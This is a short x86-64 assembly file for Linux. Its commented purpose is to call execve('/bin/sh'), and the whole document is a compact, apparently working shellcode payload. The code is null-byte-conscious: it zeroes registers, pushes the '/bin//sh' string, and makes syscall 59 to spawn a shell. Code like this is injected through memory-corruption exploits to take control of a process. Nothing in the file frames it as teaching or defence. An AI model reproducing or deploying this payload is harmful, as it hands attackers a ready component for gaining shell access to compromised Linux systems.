; Linux, 64 bit: execve("/bin/sh") with the string in a register, pushed.
bits 64
        xor esi, esi
        mul esi
        push rax
        mov rdi, '/bin//sh'
        push rdi
        mov rdi, rsp
        mov al, 59
        syscall
